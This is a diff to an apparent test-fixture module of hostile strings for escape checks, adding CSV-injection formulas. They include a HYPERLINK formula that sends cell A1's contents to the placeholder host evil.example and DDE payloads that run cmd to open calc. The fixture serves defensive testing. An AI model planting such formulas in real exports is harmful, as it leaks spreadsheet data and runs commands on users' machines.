@@ -41,7 +41,16 @@ CI = (
     '"quoted" \\ back\\slash \u2028 \u0000',
 )
 
-ALL = XSS + MERMAID + CI
+#: Strings a spreadsheet would run as a formula when a CSV export is opened (CSV injection).
+FORMULA = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+)
+
+ALL = XSS + MERMAID + CI + FORMULA
 
 #: Markers whose presence, unescaped, in rendered HTML means an escape failed.
 UNSAFE_HTML_MARKERS = (
